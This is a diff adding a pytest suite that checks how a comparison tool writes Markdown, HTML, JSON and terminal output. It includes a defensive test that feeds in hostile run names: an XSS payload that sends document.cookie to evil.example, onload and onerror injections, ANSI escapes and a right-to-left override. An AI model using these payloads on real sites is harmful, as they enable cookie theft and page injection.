@@ -1,0 +1,234 @@
+"""How a comparison is shown: files, page, picture, terminal; also where names are hostile."""
+
+import json
+import os
+import re
+import subprocess
+import sys
+import warnings
+from pathlib import Path
+
+import pytest
+from helpers.page import Page
+from helpers.synthetic import METRIC, N, change, measure
+
+from opdcl.results import compare, plots
+from opdcl.results import report as report
+from opdcl.results.compare import write as write_page
+from opdcl.rundir.layout import RunDir
+
+ROOT = Path(__file__).parents[3]
+PAYLOAD = '<script>fetch("https://evil.example/?" + document.cookie)</script><img src=x onerror=alert(1)>'
+HOSTILE = f'{PAYLOAD}\x1b[31mred\x1b[0m \u202egnp.exe\u202c \ud800 | `tick` ![x](https://evil.example/x.png) $x^2$ " 漢'
+
+pytestmark = pytest.mark.usefixtures("few_resamples")
+
+
+def test_three_files_are_written_and_twice_with_the_same_bytes(three, tmp_path):
+    found = compare.compare(three)
+    files = write_page(found, tmp_path / "new" / "out")
+    assert sorted(p.name for p in (tmp_path / "new" / "out").iterdir()) == [
+        "compare.html",
+        "compare.json",
+        "compare.md",
+    ]
+    before = [path.read_bytes() for path in files]
+    assert [
+        path.read_bytes() for path in write_page(compare.compare(three), tmp_path / "new" / "out")
+    ] == before
+    assert json.loads(files[-1].read_text()) == found
+
+
+def test_markdown_and_html_show_scores_distance_settings_and_runs(three, tmp_path):
+    text, page, _ = (p.read_text() for p in write_page(compare.compare(three), tmp_path / "out"))
+    assert "| ours 1 seed | 70.0 % [" in text
+    assert "0.83 [" in text
+    assert re.search(
+        r"\| general \| [+-]\d+\.\d \[[^]]+\] \| \+20\.0 \[\+\d+\.\d, \+\d+\.\d\] \| -20\.0 \[-\d+\.\d, -\d+\.\d\] \| scaled \|",
+        text,
+    )
+    assert "| recover.method | alternating | general | interpolate |" in text
+    shown = " ".join(Page(page).text.split())
+    for words in (
+        "ours, general, scaled: compared on instructions (40 prompts) and handbook (40 prompts).",
+        "70.0 %",
+        "Above the alpha-curve",
+        "-20.0",
+        "recover.method",
+        str(three[0].path),
+        "Frontier",
+    ):
+        assert words in shown
+
+
+def test_the_page_has_the_look_and_the_policy_of_the_report(three, tmp_path):
+    page = write_page(compare.compare(three), tmp_path / "out")[1].read_text()
+    own = next(p for p in report.write(three[0]) if p.suffix == ".html").read_text()
+    style = re.search(r"<style>.*?</style>", own, re.S)
+    policy = re.search(r"<meta http-equiv=.*?>", own)
+    assert style is not None
+    assert policy is not None
+    assert style.group() in page
+    assert policy.group() in page
+    assert "default-src 'none'" in policy.group()
+
+
+def test_the_plot_marks_base_tuned_and_every_arm(three):
+    found = compare.compare(three)
+    found["arms"][1]["name"] = "_general"
+    svg = plots.frontier(found)
+    assert svg is not None
+    for name in ("base", "tuned", "ours", "general", "scaled"):
+        assert f">{name}</text>" in svg
+    assert "ours 70 % at 80 % domain" in svg
+    assert ">alpha-curve</text>" in svg
+    assert ">alpha-curve</text>" not in (plots.frontier(compare.compare(three[:2])) or "")
+    assert (
+        plots.frontier({"headline": {"retention": "a", "domain": "b"}, "references": [], "arms": []}) is None
+    )
+
+
+@pytest.fixture
+def hostile(make) -> list[RunDir]:
+    """Runs whose directories, settings and suite names come from someone who means harm."""
+    folder = HOSTILE.replace("/", "\N{DIVISION SLASH}").replace("\ud800", "")
+    runs = [make(f"{folder}-a", 28, 32), make('_b" onload="alert(1)', 28, 30, method="interpolate")]
+    for run in runs:
+        change(run, "eval", retention=[f"{PAYLOAD.replace('/', '')[:60]}"])
+        for state, k in (("base", 32), ("tuned", 8), ("recovered", 28)):
+            run.eval_result(state, "instructions").unlink()
+            measure(run, state, {PAYLOAD.replace("/", "")[:60]: range(k)})
+    change(runs[0], "recover", general=HOSTILE)
+    change(runs[0], "model", **{HOSTILE: [HOSTILE]})
+    return runs
+
+
+def test_hostile_names_run_nothing_and_break_no_page(hostile, tmp_path):
+    with warnings.catch_warnings():
+        warnings.simplefilter("error")
+        text, html, data = (p.read_text() for p in write_page(compare.compare(hostile), tmp_path / "out"))
+    page = Page(html)
+    assert not {"script", "link", "iframe", "object", "embed", "base", "form", "img", "a"} & set(page.tags)
+    assert not [
+        name for name, _ in page.attributes if name.startswith("on") or name in ("src", "action", "srcset")
+    ]
+    assert all(value.startswith("#") for name, value in page.attributes if "href" in name)
+    assert "url(http" not in html
+    assert PAYLOAD in page.text  # shown, as text
+    ids = re.findall(r'\bid="([^"]+)"', html)
+    assert len(ids) == len(set(ids))
+    assert set(re.findall(r'(?:href="#|url\(#)([^")]+)', html)) <= set(ids)
+    for shown in (text, html, data):
+        assert "\x1b" not in shown
+        assert "\u202e" not in shown
+    assert not re.search(r"(?<!\\)<(script|img)", text)
+    assert not re.search(r"(?<!\\)\]\(", text)
+    rows = [line for line in text.splitlines() if line.startswith("|")]
+    # A bar that is not escaped would add a cell: every table keeps one number of columns.
+    for block in re.split(r"\n\n", text):
+        widths = {len(re.findall(r"(?<!\\)\|", line)) for line in block.splitlines() if line.startswith("|")}
+        assert len(widths) <= 1
+    assert rows
+
+
+def opdcl(*args: str, cwd: Path) -> subprocess.CompletedProcess[str]:
+    env = {**os.environ, "PYTHONPATH": str(ROOT), "TERM": "dumb", "COLUMNS": "80"}
+    for name in ("FORCE_COLOR", "OPDCL_DEBUG"):
+        env.pop(name, None)
+    code = "from opdcl.cli import main; main()"
+    return subprocess.run(
+        [sys.executable, "-c", code, *args],
+        cwd=cwd,
+        env=env,
+        capture_output=True,
+        text=True,
+        timeout=100,
+        check=False,
+        stdin=subprocess.DEVNULL,
+    )
+
+
+def snapshot(folder: Path) -> list[str]:
+    return sorted(str(p) for p in folder.rglob("*"))
+
+
+def test_the_command_prints_tables_on_stdout_and_writes_nothing(three, tmp_path):
+    before = snapshot(tmp_path)
+    done = opdcl("compare", "ours", "general", "scaled", cwd=tmp_path)
+    assert done.returncode == 0, done.stderr
+    lines = done.stdout.splitlines()
+    assert max(map(len, lines)) <= 80
+    assert [line.split()[0] for line in lines if " %" in line] == [
+        "base",
+        "tuned",
+        "ours",
+        "general",
+        "scaled",
+    ]
+    assert any("Above the alpha-curve" in line for line in lines)
+    assert any(line.split() == ["recover.method", "alternating", "general", "interpolate"] for line in lines)
+    assert "note: With one seed an interval covers the choice of prompts" in done.stderr
+    assert snapshot(tmp_path) == before
+
+
+def test_the_command_gives_one_json_document_with_stable_keys(three, tmp_path):
+    done = opdcl("compare", "ours", "general", "scaled", "--json", "-o", "out", cwd=tmp_path)
+    assert done.returncode == 0, done.stderr
+    assert done.stderr == ""
+    found = json.loads(done.stdout)
+    assert list(found) == [
+        "headline",
+        "suites",
+        "references",
+        "arms",
+        "further",
+        "alpha_curve",
+        "differences",
+        "notes",
+    ]
+    assert found["suites"]["handbook"] == {"role": "domain", "metric": METRIC, "n": N}
+    assert set(found["arms"][0]) == {
+        "name",
+        "method",
+        "seeds",
+        "retention",
+        "domain",
+        "recovery",
+        "domain_retention",
+        "status",
+        "above_alpha_curve",
+        "runs",
+    }
+    assert json.loads((tmp_path / "out" / "compare.json").read_text()) == found
+
+
+@pytest.mark.parametrize(
+    ("args", "said"),
+    [
+        (["ours"], "at least two"),
+        (["ours", "nowhere"], "nowhere is not a run directory"),
+        (["ours", "general", "-o", "note/out"], "note is a file"),
+        (["ours", "general", "-o", "note"], "note is a file"),
+        ([], "RUN"),
+    ],
+)
+def test_a_wrong_command_is_refused_with_one_error_and_one_hint(three, tmp_path, args, said):
+    (tmp_path / "note").write_text("mine")
+    before = snapshot(tmp_path)
+    done = opdcl("compare", *args, cwd=tmp_path)
+    assert done.returncode == 2
+    assert done.stdout == ""
+    error, hint = done.stderr.splitlines()
+    assert error.startswith("error: ")
+    assert said in error
+    assert hint.startswith("hint: ")
+    assert snapshot(tmp_path) == before
+
+
+def test_hostile_names_do_not_reach_the_terminal(hostile, tmp_path):
+    names = [str(run.path.relative_to(tmp_path)) for run in hostile]
+    for more in ([], ["--json"]):
+        done = opdcl("compare", *names, *more, cwd=tmp_path)
+        assert done.returncode == 0, done.stderr
+        assert "\x1b" not in done.stdout + done.stderr
+        assert "\u202e" not in done.stdout + done.stderr
